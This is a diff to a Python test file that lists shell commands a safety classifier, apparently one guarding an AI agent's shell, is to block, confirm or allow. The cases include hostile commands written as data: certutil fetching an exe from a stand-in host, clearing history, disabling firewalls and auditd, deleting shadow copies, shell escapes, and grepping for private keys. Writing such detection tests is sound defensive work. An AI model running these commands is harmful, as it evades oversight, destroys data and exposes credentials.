@@ -144,13 +144,14 @@ CASES: dict[str, tuple[list[str], list[str]]] = {
         ["crontab -l", "cat ~/.bashrc", "systemctl is-enabled agent"],
     ),
     "confirm.shell.defense-evasion": (
-        ["certutil -urlcache -split -f http://x.example/a.exe a.exe", "certutil -decode payload.b64 out.exe"],
+        ["certutil -urlcache -split -f http://x.example/a.exe a.exe", "certutil -decode payload.b64 out.exe",
+         "history -c", "unset HISTFILE", "export HISTFILE=/dev/null", "HISTSIZE=0", "rm ~/.bash_history"],
         ["history | tail", "ufw status", "getenforce", "certutil -hashfile a.exe SHA256"],
     ),
     "block.shell.defense-evasion": (
-        ["history -c", "unset HISTFILE", "export HISTFILE=/dev/null", "HISTSIZE=0", "setenforce 0",
-         "systemctl stop firewalld", "ufw disable", "systemctl disable auditd", "auditctl -e 0",
-         "rm ~/.bash_history", "iptables -F", "nft flush ruleset", "sudo iptables -P INPUT ACCEPT"],
+        ["setenforce 0", "systemctl stop firewalld", "ufw disable", "systemctl disable auditd", "auditctl -e 0",
+         "iptables -F", "nft flush ruleset", "sudo iptables -P INPUT ACCEPT", "aa-teardown",
+         "sysctl -w kernel.randomize_va_space=0", "vssadmin delete shadows /all /quiet"],
         ["history | tail", "ufw status", "getenforce", "iptables -L -n", "systemctl status auditd"],
     ),
     "block.shell.supervisor-tamper": (
@@ -200,6 +201,21 @@ CASES: dict[str, tuple[list[str], list[str]]] = {
         ["ionice /bin/sh", "nice -n 5 bash", "stdbuf -i0 /bin/sh", "awk 'BEGIN {system(\"/bin/sh\")}'",
          "rsync -e 'sh -c \"sh 0<&2 1>&2\"' 127.0.0.1:/dev/null", "sudo bash -p"],
         ["bash build.sh", "sh -c 'echo hi'", "echo ls | sh", "bash <<< 'echo hi'"],
+    ),
+    "confirm.shell.remote-mutation": (
+        ["curl -X DELETE https://api.example.com/v1/items/7", "http PUT api.example.com/users/1 name=x",
+         "aws iam create-access-key --user-name ops", "gh pr merge 12 --squash"],
+        ["curl -X DELETE http://localhost:8000/items/1", "curl https://api.example.com/items",
+         "aws s3 ls", "gh pr list"],
+    ),
+    "confirm.shell.desktop-input": (
+        ["xdotool key ctrl+alt+t", "xdotool type 'rm -rf ~'", "ydotool click 0xC0"],
+        ["xdotool getactivewindow getwindowname", "xdotool search --name Firefox"],
+    ),
+    "confirm.shell.system-state": (
+        ["insmod ./mod.ko", "sudo modprobe -r nouveau", "sysctl -w net.ipv4.ip_forward=1",
+         "mount -o remount,rw /", "swapoff -a", "chattr +i /etc/resolv.conf", "echo 1 > /proc/sys/vm/drop_caches"],
+        ["lsmod", "sysctl -a", "mount", "modprobe -n dummy", "lsattr /etc/hosts"],
     ),
     "confirm.shell.credential-search": (
         ["grep -ri password /etc", "grep -rn 'BEGIN RSA PRIVATE KEY' ~", "rg -i api_key /home",
